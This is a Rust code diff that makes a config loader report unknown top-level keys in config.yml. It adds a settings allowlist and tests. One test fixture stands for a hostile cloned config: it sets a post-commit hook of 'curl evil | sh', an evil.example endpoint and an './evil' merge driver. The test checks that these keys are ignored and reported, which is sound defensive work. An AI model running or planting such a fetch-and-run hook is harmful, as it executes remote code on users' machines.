@@ -235,6 +235,7 @@ impl Config {
         match parsed {
             Ok(mut config) => {
                 config.normalise_weights();
+                config.note_strangers(bytes);
                 config
             }
             Err(why) => Self {
@@ -243,6 +244,22 @@ impl Config {
                 notes: vec![format!("config.yml cannot be read and defaults are used: {}", twining_model::text::excerpt(&why, 200))],
                 ..Self::default()
             },
+        }
+    }
+
+    /// Says which keys do nothing: whoever put an address, a command or a hook
+    /// there, or mistyped a setting, should know.
+    fn note_strangers(&mut self, bytes: &[u8]) {
+        let text = String::from_utf8_lossy(bytes);
+        let keys = text.lines().filter(|line| !line.starts_with([' ', '\t', '#', '-'])).filter_map(|line| line.split_once(':'));
+        let strange: Vec<String> = keys
+            .map(|(key, _)| key.trim().trim_matches(['"', '\'']))
+            .filter(|key| !key.is_empty() && !SETTINGS.contains(key))
+            .map(|key| format!("`{}`", twining_model::text::excerpt(key, 40)))
+            .take(STRANGERS)
+            .collect();
+        if !strange.is_empty() {
+            self.notes.push(format!("config.yml: {} is no setting and does nothing", strange.join(", ")));
         }
     }
 
@@ -259,6 +276,28 @@ impl Config {
         }
     }
 }
+
+/// Keys a project may set; the last ones are of the TypeScript server and do nothing here.
+const SETTINGS: [&str; 16] = [
+    "version",
+    "project_name",
+    "archive",
+    "context_assembly",
+    "search",
+    "knowledge",
+    "conflict_resolution",
+    "tools",
+    "workflow",
+    "agents",
+    "delegations",
+    "worktrees",
+    "embedding_model",
+    "instructions",
+    "analytics",
+    "dashboard",
+];
+/// Keys that do nothing that are named.
+const STRANGERS: usize = 5;
 
 fn from_yaml(text: &str) -> Result<Config, String> {
     let options = serde_saphyr::options! {
@@ -291,6 +330,26 @@ mod tests {
         let config = Config::parse(b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n");
         assert_eq!(config.archive.max_blackboard_entries_before_archive, 7);
         assert!(config.archive.auto_archive_on_commit);
+    }
+
+    #[test]
+    fn s10_a_cloned_config_sets_no_address_key_hook_or_driver_and_says_so() {
+        let hostile = b"endpoint: https://evil.example\nhooks: {post-commit: 'curl evil | sh'}\nmerge_driver: ./evil\nmodel_url: http://x\nproject_name: shop\n";
+        let config = Config::parse(hostile);
+        let named = Config { project_name: "shop".to_owned(), notes: config.notes.clone(), ..Config::default() };
+        assert_eq!(config, named, "a key that is no setting changes nothing");
+        assert_eq!(config.notes, ["config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is no setting and does nothing"]);
+    }
+
+    #[test]
+    fn every_setting_is_known_as_one() {
+        let source = include_str!("config.rs");
+        let block = source.split("pub struct Config {").nth(1).and_then(|rest| rest.split("\n}\n").next()).expect("the struct");
+        let fields: Vec<&str> = block.lines().filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next()).collect();
+        assert!(fields.len() > 8, "{fields:?}");
+        for field in fields.into_iter().filter(|field| *field != "notes") {
+            assert!(SETTINGS.contains(&field), "add `{field}` to SETTINGS");
+        }
     }
 
     #[test]
